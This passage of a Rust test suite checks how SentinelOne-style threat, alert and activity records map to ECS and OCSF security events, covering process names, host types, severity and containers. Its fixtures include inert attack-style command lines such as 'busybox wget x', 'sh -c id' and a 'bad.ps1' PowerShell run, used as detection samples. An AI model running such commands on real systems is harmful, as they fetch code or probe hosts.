        assert_fields(&event["evidences"][0]["file"], &[("path", json!(path)), ("name", json!("a.exe"))]);
    }
}

#[test]
fn an_alert_has_no_hash_of_a_command_line_and_no_process_zero() {
    let [of_line, other] = ["fa08".to_owned() + &"1".repeat(36), "2".repeat(40)];
    let shell = "C:\\W\\powershell.exe (CLI fa08)";
    let alert = json!({"alertInfo": {"alertId": "1", "createdAt": "2026-01-01T00:00:00Z"},
        "sourceProcessInfo": {"name": "powershell.exe (CLI fa08)", "pid": "12", "fileHashSha1": of_line},
        "sourceParentProcessInfo": {"name": "cmd.exe", "pid": "0", "fileHashSha1": other},
        "targetProcessInfo": {"tgtFilePath": shell, "tgtFileHashSha1": of_line, "tgtProcName": "x.exe", "tgtProcPid": "0"}});
    let hit = activity(
        3608,
        json!({"agentId": "9"}),
        json!({"alertid": "1", "rulename": "r",
            "sourceprocessname": "powershell.exe (CLI fa08)", "sourceprocesspid": "12", "sourceprocesssha1": of_line,
            "sourceparentprocessname": "cmd.exe", "sourceparentprocesspid": "0", "sourceparentprocesssha1": other,
            "tgtfilepath": shell, "tgtfilehashsha1": of_line, "tgtprocname": "x.exe", "tgtprocpid": "0"}),
    );
    for (stream, record) in [(Stream::Alerts, alert), (Stream::Activities, hit)] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(
            &event,
            &[
                ("file.path", json!("C:\\W\\powershell.exe")),
                ("file.hash", json!(null)),
                ("process.hash", json!(null)),
                ("process.pid", json!(12)),
                ("process.parent.hash.sha1", json!(other)),
                ("process.parent.pid", json!(null)),
                ("related.hash", json!([of_line, other])),
            ],
        );
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let parts = [&event["evidences"], &event["actor"]].map(Value::to_string);
        assert!(parts.iter().all(|part| !part.contains(&of_line) && !part.contains("\"pid\":0")), "{event:#}");
    }
}

#[test]
fn a_connection_has_a_process_whose_name_may_be_a_path() {
    let path = "\\device\\harddiskvolume2\\windows\\system32\\svchost.exe";
    check(
        "firewall-process",
        Stream::Activities,
        &activity(
            5232,
            json!({"agentId": "8"}),
            json!({"computerName": "c", "processName": path, "processId": 1820, "reportedRemoteHost": "192.0.2.7",
                "reportedLocalHost": "10.0.0.1", "reportedDirection": "outbound"}),
        ),
        &[("process", json!({"name": "svchost.exe", "executable": path, "pid": 1820}))],
        &[(
            "actor.process",
            json!({"name": "svchost.exe", "pid": 1820,
                "file": {"name": "svchost.exe", "path": path, "type_id": 8, "type": "Executable File"}}),
        )],
    );
}

#[test]
fn names_of_processes_have_no_words_of_the_console() {
    let unified = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "process": {"cmdLine": "a.exe", "parentName": "cmd.exe (interactive session)",
        "file": {"name": "a.exe", "path": "\\Device\\HarddiskVolume3\\a\\a.exe"}}});
    check(
        "interactive-parent",
        Stream::UnifiedAlerts,
        &unified,
        &[("process.parent", json!({"name": "cmd.exe"})), ("process.name", json!("a.exe"))],
        &[],
    );
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &unified);
    assert_eq!(event.pointer("/evidences/0/data/parent_name"), Some(&json!("cmd.exe")));
    let threat_of = |originator: &str, kind: &str| {
        let info = json!({"detectionType": kind, "filePath": "/a/x", "originatorProcess": originator});
        at(&map_to(Schema::Ecs, Stream::Threats, &threat(info, json!({}))), "process").clone()
    };
    assert_eq!(threat_of("cmd.exe (interactive session)", "static"), json!({"name": "cmd.exe"}));
    assert_eq!(threat_of("/bin/bash", "static"), json!({"name": "bash", "executable": "/bin/bash"}));
    let explorer = "C:\\Windows\\explorer.exe";
    let parent = json!({"name": "explorer.exe", "executable": explorer});
    assert_eq!(threat_of(explorer, "dynamic")["parent"], parent);
    assert_eq!(threat_of("cmd.exe (interactive session)", "dynamic")["parent"], json!({"name": "cmd.exe"}));
    let session = activity(
        19,
        json!({"threatId": "5", "agentId": "8"}),
        json!({"fileDisplayName": "cmd.exe (interactive session)"}),
    );
    let event = map_to(Schema::Ecs, Stream::Activities, &session);
    assert_fields(&event, &[("process", json!({"name": "cmd.exe"})), ("file", Value::Null)]);
    let event = map_to(Schema::Ocsf, Stream::Activities, &session);
    assert_fields(&event, &[("evidences", json!([{"data": {"process": "cmd.exe"}}]))]);
}

#[test]
fn a_script_is_a_file_and_its_interpreter_the_process() {
    let line = "C:\\W\\powershell.exe -File C:\\x\\bad.ps1";
    check(
        "script",
        Stream::UnifiedAlerts,
        &json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "process": {"cmdLine": line,
            "file": {"name": "bad.ps1", "path": "C:\\x\\bad.ps1", "sha1": "1".repeat(40)}}}),
        &[
            ("process", json!({"name": "powershell.exe", "executable": "C:\\W\\powershell.exe", "command_line": line})),
            ("file.name", json!("bad.ps1")),
            ("file.hash.sha1", json!("1".repeat(40))),
        ],
        &[],
    );
}

/// A library, a script or another program is not the image of a process that the name is of.
#[test]
fn a_decorated_name_makes_no_other_file_the_process() {
    let sha1 = format!("fa08{}", "1".repeat(36));
    for (name, path, kind) in [
        ("cmd.exe (interactive session)", "C:\\x\\a.dll", "static"),
        ("cmd.exe (interactive session)", "C:\\x\\b.exe", "dynamic"),
        ("cmd.exe (interactive session)", "/home/x/a.dll", "dynamic"),
        ("powershell.exe (CLI fa08)", "C:\\x\\run.ps1", "dynamic"),
    ] {
        let shell = name.split(' ').next().unwrap();
        let info = json!({"threatName": name, "filePath": path, "detectionType": kind, "sha1": sha1,
            "originatorProcess": "explorer.exe", "maliciousProcessArguments": "/c x", "processUser": "ACME\\jane"});
        let reported = json!({"fileDisplayName": name, "filePath": path, "fileContentHash": sha1,
            "escapedMaliciousProcessArguments": "/c x"});
        let alerted = json!({"cmdLine": format!("{shell} /c x"), "file": {"name": name, "path": path, "sha1": sha1}});
        for (stream, record) in [
            (Stream::Threats, threat(info, json!({}))),
            (Stream::Activities, activity(19, json!({"threatId": "5", "agentId": "8"}), reported)),
            (Stream::UnifiedAlerts, json!({"id": "u", "process": alerted})),
        ] {
            let event = map_to(Schema::Ecs, stream, &record);
            let is_of_line = name.contains("CLI");
            assert_fields(
                &event,
                &[
                    ("process.name", json!(shell)),
                    ("process.executable", Value::Null),
                    ("process.hash", Value::Null),
                    ("file.name", json!(path.rsplit(['\\', '/']).next())),
                    ("file.path", json!(path)),
                    ("file.hash.sha1", if is_of_line { Value::Null } else { json!(sha1) }),
                ],
            );
            let line = at(&event, "process.command_line").as_str().unwrap();
            assert!(line.ends_with("/c x"), "{event:#}");
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            let evidence = &event["evidences"][0];
            assert_fields(evidence, &[("data.process", json!(shell)), ("file.path", json!(path))]);
            assert!(evidence["file"]["type"] != "Executable File", "{event:#}");
        }
    }
}

#[test]
fn a_system_an_agent_or_a_machine_type_makes_a_host() {
    let alert = |mut asset: Value| {
        asset["name"] = json!("H");
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "assets": [asset]});
        [Schema::Ecs, Schema::Ocsf].map(|schema| {
            let event = map_to(schema, Stream::UnifiedAlerts, &record);
            assert_eq!(faults(schema, &event), Vec::<String>::new(), "{event:#}");
            event
        })
    };
    for (asset, types) in [
        (json!({"osType": "WINDOWS"}), [Value::Null, json!("Unknown")]),
        (json!({"agentVersion": "24.1"}), [Value::Null, json!("Unknown")]),
        (json!({"osType": "LINUX", "category": "Virtual Machine"}), [json!("virtual machine"), json!("Virtual")]),
        (json!({"category": "Endpoint"}), [json!("endpoint"), json!("Unknown")]),
        (json!({"category": "Desktop"}), [json!("desktop"), json!("Desktop")]),
        (json!({"category": "Server", "subcategory": "Other Server"}), [json!("server"), json!("Server")]),
        (json!({"subcategory": "Kubernetes Node"}), [json!("kubernetes node"), json!("Server")]),
        (
            json!({"category": "Identity", "subcategory": "Domain Controller"}),
            [json!("domain controller"), json!("Server")],
        ),
        (json!({"category": "Identity", "subcategory": "AD Computer"}), [json!("ad computer"), json!("Unknown")]),
    ] {
        let [ecs, ocsf] = alert(asset.clone());
        let of_host = [("host.name", json!("H")), ("host.type", types[0].clone())];
        assert_fields(&ecs, &of_host);
        assert_fields(&ocsf, &[("device.hostname", json!("H")), ("device.type", types[1].clone())]);
    }
    for asset in [
        json!({"category": "Storage", "subcategory": "S3 Bucket"}),
        json!({"category": "Identity", "subcategory": "User"}),
        json!({"category": "Identity", "subcategory": "User", "agentUuid": "u-1", "osType": "WINDOWS"}),
        json!({"subcategory": "Service Account", "agentUuid": "u-1", "osType": "WINDOWS"}),
        json!({"category": "User", "agentUuid": "u-1"}),
        json!({"osType": "UNKNOWN", "category": "Database", "subcategory": "SQL Server"}),
        json!({"category": "Function"}),
    ] {
        let [ecs, ocsf] = alert(asset.clone());
        assert_fields(&ecs, &[("host", Value::Null)]);
        assert_fields(&ocsf, &[("device", Value::Null)]);
    }
    // A node of Kubernetes has one type in all streams.
    let node = "Kubernetes Node";
    for (stream, record) in [
        (Stream::Threats, json!({"agentRealtimeInfo": {"agentComputerName": "H", "agentMachineType": node}})),
        (Stream::Agents, json!({"id": "1", "computerName": "H", "machineType": node})),
        (Stream::Alerts, json!({"agentRealtimeInfo": {"name": "H", "machineType": node}})),
        (
            Stream::Activities,
            json!({"activityType": 3608, "data": {"origagentname": "H", "origagentmachinetype": node}}),
        ),
        (Stream::UnifiedAlerts, json!({"id": "u", "assets": [{"name": "H", "subcategory": node}]})),
    ] {
        assert_fields(&map_to(Schema::Ecs, stream, &record), &[("host.type", json!("kubernetes node"))]);
        assert_fields(&map_to(Schema::Ocsf, stream, &record), &[("device.type", json!("Server"))]);
    }
}

#[test]
fn ransomware_that_a_user_marked_as_a_threat_is_critical() {
    for (number, classification, ecs, ocsf) in [
        (4001, "Ransomware", 99, "Critical"),
        (4009, "Ransomware", 99, "Critical"),
        (4001, "Trojan", 73, "High"),
        (4003, "Ransomware", 47, "Medium"),
    ] {
        let data = json!({"threatClassification": classification, "fileDisplayName": "x.exe"});
        let record = activity(number, json!({"threatId": "9001"}), data);
        assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &[("event.severity", json!(ecs))]);
        assert_fields(&map_to(Schema::Ocsf, Stream::Activities, &record), &[("severity", json!(ocsf))]);
    }
}

#[test]
fn a_system_is_that_of_one_time() {
    let record = |now: Value, then: Value| {
        let mut asset = json!({"agentUuid": "u-1", "name": "web-1", "category": "Workstation", "primary": true});
        asset.as_object_mut().unwrap().extend(now.as_object().unwrap().clone());
        json!({"id": "1", "assets": [asset], "detectionTime": {"asset": then}})
    };
    let ten = json!({"osType": "WINDOWS", "osName": "Windows 10 Pro", "osRevision": "19044"});
    let none = || Value::Null;
    for (now, then, [kind, name, version, full], [ocsf_type, ocsf_name, ocsf_version]) in [
        (
            json!({"osType": "WINDOWS", "osVersion": "Windows 11 Pro 22631"}),
            ten.clone(),
            [json!("windows"), none(), none(), json!("Windows 11 Pro 22631")],
            [json!("Windows"), json!("Windows 11 Pro 22631"), none()],
        ),
        (
            json!({"osType": "WINDOWS", "osVersion": "Windows 10 Pro 19044"}),
            ten.clone(),
            [json!("windows"), json!("Windows 10 Pro"), json!("19044"), json!("Windows 10 Pro 19044")],
            [json!("Windows"), json!("Windows 10 Pro"), json!("19044")],
        ),
        (
            json!({"osType": "LINUX", "osVersion": "Linux Ubuntu 24.04"}),
            ten.clone(),
            [json!("linux"), none(), none(), json!("Linux Ubuntu 24.04")],
            [json!("Linux"), json!("Linux Ubuntu 24.04"), none()],
        ),
        (
            json!({"osType": "LINUX"}),
            ten.clone(),
            [json!("linux"), none(), none(), none()],
            [json!("Linux"), json!("Linux"), none()],
        ),
        (
            json!({}),
            ten,
            [json!("windows"), json!("Windows 10 Pro"), json!("19044"), json!("Windows 10 Pro 19044")],
            [json!("Windows"), json!("Windows 10 Pro"), json!("19044")],
        ),
    ] {
        let record = record(now, then);
        let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
        assert_fields(
            &event,
            &[("host.os.type", kind), ("host.os.name", name), ("host.os.version", version), ("host.os.full", full)],
        );
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        let os = [("device.os.type", ocsf_type), ("device.os.name", ocsf_name), ("device.os.version", ocsf_version)];
        assert_fields(&event, &os);
    }
}

#[test]
fn a_vulnerability_of_which_something_was_done_is_not_new() {
    for (mitigation, id, word) in [
        ("Risk Accepted", 99, "Risk Accepted"),
        ("accepted_risk", 99, "accepted_risk"),
        ("Mitigated", 99, "Mitigated"),
        ("Ignored", 3, "Suppressed"),
        ("Resolved", 4, "Resolved"),
        ("On hold", 3, "Suppressed"),
        ("To be patched", 2, "In Progress"),
        ("Not mitigated", 1, "New"),
        ("", 1, "New"),
    ] {
        let record = json!({"id": "1", "cveId": "CVE-2026-0001", "status": "Detected", "mitigationStatus": mitigation});
        let event = map_to(Schema::Ocsf, Stream::Vulnerabilities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{mitigation}: {event:#}");
        let activity = if id == 4 { "Close" } else { "Update" };
        assert_fields(&event, &[("status_id", json!(id)), ("status", json!(word)), ("activity_name", json!(activity))]);
    }
}

#[test]
fn a_technique_of_a_unified_alert_has_the_id_of_its_link() {
    let link = "https://attack.mitre.org/techniques/T1059/001/";
    let technique = json!({"name": "PowerShell", "uid": null, "sourceUrl": link});
    let record =
        json!({"id": "1", "indicators": [{"attacks": [{"tactic": {"name": "Execution"}, "technique": technique}]}]});
    assert_fields(
        &map_to(Schema::Ecs, Stream::UnifiedAlerts, &record),
        &[("threat.technique.id", json!(["T1059"])), ("threat.technique.subtechnique.id", json!(["T1059.001"]))],
    );
    let attack = at(&map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record), "finding_info.attacks")[0].clone();
    assert_fields(&attack, &[("technique.uid", json!("T1059")), ("sub_technique.uid", json!("T1059.001"))]);
}

#[test]
fn a_threat_has_the_first_engine_that_has_a_name() {
    let of = |engines: Value, titles: Value| threat(json!({"detectionEngines": engines, "engines": titles}), json!({}));
    let none = json!({"key": null, "title": null});
    for (engines, titles, name, ruleset) in [
        (
            json!([none, {"key": "pre_execution", "title": "On-Write Static AI"}]),
            json!([]),
            "On-Write Static AI",
            json!("pre_execution"),
        ),
        (json!([{"key": "a", "title": null}, {"key": "b", "title": "B"}]), json!([]), "B", json!("b")),
        (json!([none]), json!([null, "Reputation"]), "Reputation", Value::Null),
        (json!([none, {"key": "a", "title": null}]), json!(["Reputation"]), "Reputation", json!("a")),
    ] {
        let event = map_to(Schema::Ecs, Stream::Threats, &of(engines, titles));
        assert_fields(&event, &[("rule.name", json!(name)), ("rule.ruleset", ruleset)]);
    }
}

#[test]
fn a_new_threat_has_the_time_of_its_detection_or_creation() {
    let created = "2026-01-01T00:00:10.000Z";
    let (created_millis, identified_millis) = (1_767_225_610_000_i64, 1_767_225_600_000);
    for (identified, is_time) in [
        (json!("N/A"), false),
        (json!(null), false),
        (json!("soon"), false),
        (json!(identified_millis), true),
        (json!(identified_millis.to_string()), true),
    ] {
        let record = threat(
            json!({"identifiedAt": identified, "createdAt": created, "updatedAt": "2026-01-01T00:00:40.000Z"}),
            json!({}),
        );
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        let time = Timestamp::parse(at(&event, "@timestamp").as_str().unwrap()).unwrap();
        assert_eq!(time.millis(), if is_time { identified_millis } else { created_millis }, "{event:#}");
        // In OCSF, a new finding has the time of its creation, and the detection is its start.
        let start = if is_time { json!(identified_millis) } else { Value::Null };
        assert_fields(
            &map_to(Schema::Ocsf, Stream::Threats, &record),
            &[("time", json!(created_millis)), ("start_time", start)],
        );
    }
}

#[test]
fn the_type_of_a_processes_user_is_unknown_unless_the_name_says_it() {
    let rule_hit = |user: &str| {
        let data = json!({"alertid": "1", "rulename": "r", "sourceprocessusername": user, "sourceprocesspid": "12",
            "sourceprocessname": "a.exe", "sourceprocesskeyuniqueid": "u"});
        activity(3608, json!({}), data)
    };
    let alert = |user: &str| {
        json!({"alertInfo": {"alertId": "1"}, "ruleInfo": {"name": "r"}, "sourceProcessInfo": {"name": "a.exe",
            "pid": "12", "uniqueId": "u", "user": user}})
    };
    let unified = |user: &str| json!({"id": "1", "process": {"cmdLine": "a.exe -x", "username": user}});
    for (user, expected) in [("ACME\\jane", "Unknown"), ("NT AUTHORITY\\SYSTEM", "System")] {
        for (stream, record, path) in [
            (Stream::Threats, threat(json!({"processUser": user}), json!({})), "/evidences/0/user/type"),
            (Stream::Activities, rule_hit(user), "/actor/process/user/type"),
            (Stream::Alerts, alert(user), "/actor/process/user/type"),
            (Stream::UnifiedAlerts, unified(user), "/actor/user/type"),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(event.pointer(path), Some(&json!(expected)), "{stream}: {event:#}");
        }
    }
}

/// All failed logins of Windows have the id of Nobody.
#[test]
fn nobody_is_no_user_who_logged_in() {
    let login = json!({"loginsUserName": "ARLENE", "loginAccountDomain": "-", "loginAccountSid": "S-1-0-0",
        "loginIsSuccessful": "False", "alertId": "1"});
    let hit = json!({"alertid": "1", "rulename": "r", "loginsusername": "ARLENE", "loginaccountdomain": "-",
        "loginaccountsid": "S-1-0-0"});
    for (stream, record) in
        [(Stream::Alerts, json!({"alertInfo": login})), (Stream::Activities, activity(3608, json!({}), hit))]
    {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("user", json!({"name": "ARLENE"}))]);
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let users = event["evidences"].as_array().unwrap().iter().filter_map(|evidence| evidence.get("user"));
        assert_eq!(
            users.collect::<Vec<_>>(),
            [&json!({"name": "ARLENE", "type_id": 0, "type": "Unknown"})],
            "{event:#}"
        );
    }
    // `S-1-5-18` would be that of who asked for the login.
    for (sid, expected) in [("S-1-5-21-1-2-3-1000", json!("S-1-5-21-1-2-3-1000")), ("s-1-0-0", Value::Null)] {
        let record = json!({"alertInfo": {"alertId": "1", "loginsUserName": "a", "loginAccountSid": sid}});
        assert_fields(&map_to(Schema::Ecs, Stream::Alerts, &record), &[("user.id", expected)]);
    }
}

#[test]
fn a_mobile_device_is_one() {
    for kind in ["Mobile Device", "MOBILE", "ANDROID", "iOS"] {
        let asset =
            json!({"agentUuid": "u-1", "name": "phone-1", "category": "Device", "subcategory": kind, "primary": true});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &json!({"id": "1", "assets": [asset]}));
        assert_fields(&event, &[("device.type", json!("Mobile")), ("device.type_id", json!(5))]);
    }
}

#[test]
fn malware_has_no_words_of_the_console_in_its_name() {
    for (name, expected) in [
        ("powershell.exe (CLI fa08)", "powershell.exe"),
        ("cmd.exe (interactive session)", "cmd.exe"),
        ("setup.exe (1)", "setup.exe (1)"),
        ("cmd.exe (interactive session) detected as Malware", "cmd.exe detected as Malware"),
        ("powershell.exe (CLI fa08) detected as Malware (x)", "powershell.exe detected as Malware (x)"),
        ("cmd.exe  (interactive session)  detected as Malware", "cmd.exe detected as Malware"),
        ("powershell.exe\u{a0}(CLI fa08) detected as Malware", "powershell.exe detected as Malware"),
        // The console has its words at the end of a name: this is another file's.
        ("notes (interactive session).txt", "notes (interactive session).txt"),
        ("notes (CLI fa08) copy.txt", "notes (CLI fa08) copy.txt"),
        ("a (CLI 12).exe", "a (CLI 12).exe"),
        ("a (CLI 12).exe (CLI fa08)", "a (CLI 12).exe"),
        ("a (CLI fa08) and b (CLI fa09)", "a (CLI fa08) and b"),
        ("setup.exe (1) in (CLI) found", "setup.exe (1) in (CLI) found"),
    ] {
        let data = json!({"fileDisplayName": name, "threatClassification": "Malware"});
        for (stream, record) in [
            (Stream::Threats, threat(json!({"threatName": name}), json!({}))),
            (Stream::Activities, activity(19, json!({"threatId": "1"}), data)),
            (Stream::UnifiedAlerts, json!({"id": "1", "name": name, "classification": "Malware"})),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(event.pointer("/malware/0/name"), Some(&json!(expected)), "{stream}: {event:#}");
            // It is the name of the file.
            if let Some(file) = event.pointer("/malware/0/files/0/name") {
                let is_title = expected.contains(" detected as ");
                assert!(is_title || *file == json!(expected), "{stream}: {event:#}");
            }
        }
    }
}

/// The whole name of a file on other systems than Windows is the program, and so is a shell that was started by another
/// name.
#[test]
fn a_program_of_unix_is_no_script_of_its_first_word() {
    for (path, line, executable) in [
        ("/Volumes/A B/A B", "/Volumes/A B/A B", "/Volumes/A B/A B"),
        ("/opt/My App/my app", "/opt/My App/my app --once", "/opt/My App/my app"),
        ("/bin/busybox", "sh -c \"busybox wget x\"", "/bin/busybox"),
        ("/usr/bin/bash", "/bin/rbash -c bash", "/usr/bin/bash"),
        ("/opt/My Tool/run me", "/bin/bash \"/opt/My Tool/run me\"", "/bin/bash"),
    ] {
        let info = json!({"detectionType": "dynamic", "filePath": path, "maliciousProcessArguments": line});
        let record = json!({"id": "1", "agentRealtimeInfo": {"agentOsType": "linux"}, "threatInfo": info});
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_eq!(event.pointer("/process/executable"), Some(&json!(executable)), "{line}: {event:#}");
    }
}

#[test]
fn an_unrecognized_system_makes_no_host() {
    let asset = |system| json!({"name": "b", "category": "Storage", "osType": system, "primary": true});
    for (system, has_host) in [("UNRECOGNIZED", false), ("UNKNOWN", false), ("LINUX", true)] {
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "assets": [asset(system)]});
        for (schema, path) in [(Schema::Ecs, "/host/name"), (Schema::Ocsf, "/device/hostname")] {
            let event = map_to(schema, Stream::UnifiedAlerts, &record);
            assert_eq!(event.pointer(path).is_some(), has_host, "{system}: {event:#}");
        }
    }
}

#[test]
fn what_a_group_has_is_of_the_group() {
    let owners =
        json!({"accountId": "2", "accountName": "A", "siteId": "3", "siteName": "S", "groupId": "4", "groupName": "G"});
    let group = json!({"uid": "4", "name": "G"});
    let scoped = json!({"scopeLevel": "Group", "scopeName": "G"});
    let names = json!({"accountName": "A", "siteName": "S", "groupName": "G"});
    let entity = json!({"type_id": 3, "type": "Group", "name": "G", "uid": "4", "group": group});
    for (number, data, expected) in [
        (56, &scoped, entity.clone()),
        (56, &names, entity),
        (5011, &scoped, json!({"type_id": 5, "type": "Policy", "group": group})),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(number, owners.clone(), data.clone()));
        assert_fields(&event, &[("entity", expected)]);
    }
    // The site is what an activity of the site is about, whatever group is named.
    let site = json!({"scopeLevel": "Site", "scopeName": "S", "groupName": "G"});
    let event = map_to(Schema::Ocsf, Stream::Activities, &activity(56, owners, site));
    assert_fields(&event, &[("entity.type_id", json!(4)), ("entity.name", json!("S"))]);
}

#[test]
fn an_agent_does_not_say_who_ordered_a_scan() {
    for (number, fields, data, expected) in [
        (91, json!({"agentId": "9"}), json!({"computerName": "h"}), 0),
        (71, json!({"agentId": "9", "userId": "7"}), json!({"computerName": "h", "username": "jane"}), 1),
        (71, json!({"agentId": "9"}), json!({"computerName": "h", "system": true}), 99),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Activities, &activity(number, fields, data));
        assert_fields(&event, &[("scan.type_id", json!(expected))]);
    }
}

#[test]
fn a_confidence_is_a_word_of_the_list_or_other() {
    for (word, id, name) in [("HIGH", 3, "High"), ("malicious", 3, "High"), ("test", 99, "test")] {
        let record = json!({"id": "1", "confidenceLevel": word, "detectedAt": "2026-01-01T00:00:00Z"});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_fields(&event, &[("confidence_id", json!(id)), ("confidence", json!(name))]);
    }
}

/// Nothing ran and nothing was written: the container is in the device as in other streams.
#[test]
fn the_container_of_a_unified_alert_is_in_the_device() {
    let asset = json!({"name": "H", "osType": "LINUX", "primary": true});
    let kubernetes = json!({"clusterName": "c1", "containerId": "abc", "containerName": "web"});
    let detected = json!({"assets": [{"primary": true, "kubernetes": kubernetes}]});
    let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "assets": [asset], "detectionTime": detected});
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
    assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
    assert_fields(&event, &[("device.container.uid", json!("abc")), ("device.container.name", json!("web"))]);
}

/// What starts a container has the scheme of its runtime, and an image without a tag is only a digest.
#[test]
fn the_image_of_a_container_may_be_a_digest() {
    let digest = format!("sha256:{}", "a".repeat(64));
    let pullable = format!("docker-pullable://nginx@{digest}");
    for (image, expected, name) in [
        (digest.as_str(), json!({"hash": {"all": [digest]}}), Value::Null),
        (&pullable, json!({"name": "nginx", "hash": {"all": [digest]}}), json!("nginx")),
        (
            "docker://registry:5000/app:1",
            json!({"name": "registry:5000/app", "tag": ["1"]}),
            json!("registry:5000/app"),
        ),
        ("sha256:1", json!({"name": "sha256", "tag": ["1"]}), json!("sha256")),
    ] {
        let container = json!({"id": "containerd://abc", "name": "web", "image": image});
        let record = threat(json!({}), json!({"containerInfo": container, "agentRealtimeInfo": {"agentId": "9"}}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(&event, &[("container", json!({"id": "abc", "name": "web", "image": expected}))]);
        assert_fields(
            at(&event, "sentinel_one.threat.container_info"),
            &[("id", json!("containerd://abc")), ("image", json!(image))],
        );
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let container = at(&event, "device.container");
        assert_fields(container, &[("uid", json!("abc")), ("image.uid", json!(image)), ("image.name", name)]);
    }
}

#[test]
fn an_appliance_is_a_machine_of_its_type() {
    for (subcategory, id, name) in [("Router", 12, "Router"), ("Firewall", 9, "Firewall"), ("Switch", 10, "Switch")] {
        let asset = json!({"name": "H", "category": "Network", "subcategory": subcategory, "primary": true});
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "assets": [asset]});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_fields(&event, &[("device.type_id", json!(id)), ("device.type", json!(name))]);
        let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
        assert_fields(&event, &[("host.name", json!("H"))]);
    }
}

#[test]
fn a_shell_of_a_unified_alert_is_the_image_whatever_its_first_word() {
    for (path, line) in [("/bin/busybox", "sh -c \"busybox wget x\""), ("/usr/bin/dash", "sh -c id")] {
        let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "analytics": {"typeValue": "DYNAMIC"},
            "assets": [{"name": "H", "osType": "LINUX", "primary": true}],
            "process": {"cmdLine": line, "file": {"path": path}}});
        let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
        assert_eq!(event.pointer("/process/executable"), Some(&json!(path)), "{event:#}");
    }
}

/// What the console adds to a name is in no observable. The text stays at its path.
#[test]
fn a_name_with_words_of_the_console_is_no_observable() {
    for (kind, value) in [
        ("PROCESS", "powershell.exe (CLI fa08)"),
        ("PROCESS_NAME", "cmd.exe (interactive session)"),
        ("FILE_NAME", "powershell.exe (CLI fa08)"),
        ("FILE_PATH", "C:\\W\\powershell.exe (CLI fa08)"),
    ] {
        let record = json!({"id": "1", "observables": [{"name": "a", "type": kind, "value": value}]});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_eq!(observed(&event), [], "{event:#}");
        assert_eq!(event["unmapped"]["observables"][0]["value"], value);
    }
}

/// The agent of an identity is that of the machine that saw it.
#[test]
fn an_identity_with_an_agent_is_a_user_and_no_host() {
    let identity = json!({"name": "ACME\\jane", "category": "Identity", "subcategory": "User Account",
        "agentUuid": "u-1", "osType": "WINDOWS", "primary": true});
    let server = json!({"name": "DC-1", "category": "Server"});
    let record = json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "assets": [identity, server]});
    check(
        "identity-with-an-agent",
        Stream::UnifiedAlerts,
        &record,
        &[
            ("host", Value::Null),
            ("user", json!({"name": "jane", "domain": "ACME"})),
            ("related.user", json!(["jane"])),
            ("related.hosts", json!(["DC-1"])),
            ("sentinel_one.agent.uuid", json!("u-1")),
        ],
        &[
            ("device", Value::Null),
            ("resources", json!([{"name": "ACME\\jane", "type": "User Account", "uid_alt": "u-1"}, {"name": "DC-1"}])),
            ("evidences", json!([{"user": {"name": "jane", "domain": "ACME", "type": "Unknown", "type_id": 0}}])),
        ],
    );
}

#[test]
fn a_name_with_an_address_is_both_for_every_user() {
    let [both, name, address] = ["Jane Doe (jane@acme.example)", "Jane Doe", "jane@acme.example"];
    let all = json!(["jane", address, name]);
    // Who detected from the console.
    let info = json!({"initiatedBy": "star_manual", "initiatingUsername": both, "initiatingUserId": "7"});
    check(
        "threat-initiated-by-a-person",
        Stream::Threats,
        &threat(info, json!({})),
        &[("related.user", all.clone())],
        &[
            ("actor.user.uid", json!("7")),
            ("actor.user.name", json!("jane")),
            ("actor.user.full_name", json!(name)),
            ("actor.user.email_addr", json!(address)),
        ],
    );
    // Who made a group.
    let group = json!({"id": "1", "name": "G", "creator": both, "creatorId": "7", "updatedAt": "2026-01-01T00:00:00Z"});
    let event = map_to(Schema::Ecs, Stream::Groups, &group);
    assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
    assert_fields(
        &event,
        &[
            ("user", json!({"name": "jane", "full_name": name, "email": address, "id": "7"})),
            ("related.user", json!([name, "jane", address])),
            ("sentinel_one.group.creator", json!(both)),
        ],
    );
    // Whom an alert is assigned to.
    let record = json!({"id": "u", "assignee": {"userId": "7", "fullName": both}});
